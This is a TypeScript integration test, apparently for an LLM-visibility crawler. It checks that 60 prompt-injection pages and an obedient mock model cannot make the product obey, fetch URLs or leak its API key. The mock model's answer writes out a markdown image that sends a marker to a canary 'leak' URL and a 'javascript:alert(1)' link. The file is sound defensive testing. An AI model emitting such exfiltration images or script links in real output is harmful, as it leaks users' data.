import { startLlmDouble } from "@sightline/providers/llm/doubles";
import {
  customerOf,
  hasEnded,
  startSite,
  type TestSite,
  WITH_SITES,
} from "@sightline/testing/crawling";
import { promote, startProduct, type TestProduct, WITH_ADMIN } from "@sightline/testing/http";
import { runsAll } from "@sightline/testing/rounds";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { judgeDays } from "./judging/judge-days.ts";
import { attacks, hostilePage, MARK, widgetName } from "./testing/hostile-pages.ts";

const KEY = "sk-only-ours-9f8e7d6c5b4a";
const patiently = { timeout: 300_000, interval: 200 };

let product: TestProduct;
let site: TestSite;
let canary: TestSite;
let double: Awaited<ReturnType<typeof startLlmDouble>>;
const logged: string[] = [];
let hostile: readonly string[] = [];

beforeAll(async () => {
  canary = await startSite(() => ({ body: "caught" }));
  hostile = attacks(canary.home.replace(/\/$/, ""));
  site = await startSite((path) => {
    const nth = Number(/^\/(\d+)$/.exec(path)?.[1] ?? -1);
    if (path === "/") {
      const links = hostile.map((_, at) => `<a href="/${at}">${widgetName(at)}</a>`).join(" ");
      return { body: `<html lang="en"><title>Widgets</title><h1>Widgets</h1>${links}</html>` };
    }
    const attack = hostile[nth];
    return attack === undefined ? { status: 404 } : { body: hostilePage(nth, attack) };
  });
  // Does what every page tells it to, and says what it knows: the key it was called with.
  double = await startLlmDouble("openai-compatible", {
    apiKey: KEY,
    answer: (prompt) => {
      const nth = hostile.findIndex((_, at) => prompt.includes(widgetName(at)));
      const attack = hostile[nth] ?? "";
      return {
        text: `${attack}\n\n![x](${canary.home}leak?q=${MARK}) [${MARK}](javascript:alert(1))`,
      };
    },
  });
  product = await startProduct(
    {
      ...WITH_SITES,
      ...WITH_ADMIN,
      ...{ OPENAI_COMPATIBLE_URL: double.url, OPENAI_COMPATIBLE_MODEL: "obedient" },
      ...{ OPENAI_COMPATIBLE_API_KEY: KEY, LOG_LEVEL: "debug" },
    },
    (line) => void logged.push(line),
  );
});
afterAll(async () => {
  await product.stop();
  await Promise.all([site.close(), canary.close(), double.stop()]);
});

/** All are crawled; before a release all are asked about, otherwise every fourth. */
describe("60 hostile pages", { timeout: 360_000 }, () => {
  it("P75 are data: nothing in them is obeyed, fetched or said as ours, and no key leaves", async () => {
    expect(hostile).toHaveLength(60);
    const ana = await customerOf(product);
    await promote(product.url, ana.user.id);
    const { company } = await ana.watch(site.domain);
    const { id: crawl } = await ana.crawl(company, 100);
    expect(await ana.until(crawl, hasEnded)).toMatchObject({ status: "complete", pages: 61 });

    // The audit checks whether links and files exist, at their own addresses and with nothing added.
    const checkedByAudit = [...canary.asked];
    const own = hostile.join(" ");
    for (const path of checkedByAudit.filter((one) => one !== "/robots.txt")) {
      expect(own).toContain(path.slice(1));
    }

    const ids: string[] = [];
    const asked = [...hostile.keys()].filter((nth) => runsAll() || nth % 4 === 0);
    for (const nth of asked) {
      const text = `What is the ${widgetName(nth)} widget?`;
      const added = await ana.ask("POST", "/prompts", { target_site: site.domain, text });
      expect([added.status, added.body.message]).toEqual([201, undefined]);
      ids.push(added.body.id);
    }
    const { body: run } = await ana.ask("POST", "/prompts/run", { ids });
    const ended = async () => {
      const { body } = await ana.ask("GET", `/prompts/runs/${run.run_id}`);
      return (body.states?.queued ?? 0) + (body.states?.asking ?? 0);
    };
    await expect.poll(ended, patiently).toBe(0);

    const answers = (
      await Promise.all(ids.map((id) => ana.ask("GET", `/prompts/${id}/answers`)))
    ).map(({ body }) => body.answers);
    let quoted = 0;
    for (const [at, ofPrompt] of answers.entries()) {
      const nth = asked[at] ?? 0;
      for (const { engine, state, text, cited, mentions } of ofPrompt) {
        if (state !== "answered") continue;
        // Only what the page says, with the page it is from.
        if (engine === "Built-in") {
          quoted += 1;
          expect(cited.map(({ page }: { page: string }) => page)).toContain(`${site.home}${nth}`);
          for (const { start, end } of cited) {
            expect(visibleTextOf(nth)).toContain(oneSpace(text.slice(start, end)));
          }
        }
        // What an obedient model says is kept as it came, and is no source and no mention.
        else expect([cited, mentions]).toEqual([[], []]);
      }
    }
    expect(quoted).toBeGreaterThan(asked.length * 0.8);

    await judgeDays(product.db, new Date(Date.now() + 2 * 86_400_000), []);
    const query = `?target_site=${site.domain}`;
    const ours = await ana.seen([
      ...[
        `/ai-visibility${query}`,
        `/ai-visibility/sources${query}`,
        `/ai-visibility/alerts${query}`,
      ],
      ...[`/prompts${query}`, `/insights${query}`, "/notifications", "/digest/preview"],
      `/crawls/${crawl}/issues`,
    ]);
    for (const [path, { status, body }] of Object.entries(ours)) {
      expect([path, status]).toEqual([path, 200]);
      expect([path, JSON.stringify(body).includes(MARK)]).toEqual([path, false]);
    }
    // Neither what a page nor what an obedient model wants fetched.
    expect(canary.asked).toEqual(checkedByAudit);
    // Nothing was ordered: the account and what it tracks are as they were.
    expect((await ana.ask("GET", "/account")).status).toBe(200);
    expect((await ana.ask("GET", `/prompts${query}`)).body.prompts).toHaveLength(asked.length);

    const exported = await ana.ask("GET", "/account/export");
    const { rows } = await sql<{ row: string }>`
      select to_jsonb(answer)::text as row from prompt_answers as answer
    `.execute(product.db);
    const seen = [JSON.stringify(exported.body), ...logged, ...rows.map(({ row }) => row)];
    expect(seen.filter((text) => text.includes(KEY))).toEqual([]);
    expect(logged.filter((line) => line.includes(MARK))).toEqual([]);
    // The model got the question, and no page, no account, no key in its text.
    for (const { body } of double.requests) {
      expect(JSON.stringify(body)).not.toMatch(new RegExp(`${MARK}|${KEY}|${ana.user.email}`));
    }
  });
});

function visibleTextOf(nth: number): string {
  const page = hostilePage(nth, hostile[nth] ?? "").replaceAll(/<[^>]*>/g, " ");
  const entities = { "&lt;": "<", "&gt;": ">", "&amp;": "&" } as const;
  return oneSpace(
    page
      .replaceAll(/&(?:lt|gt|amp);/g, (one) => entities[one as keyof typeof entities])
      .replaceAll(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
      // What turns text around isn't quoted.
      .replaceAll(/[\u202a-\u202e\u2066-\u2069]/g, ""),
  );
}

function oneSpace(text: string): string {
  return text.replaceAll(/\s+/g, " ").trim();
}
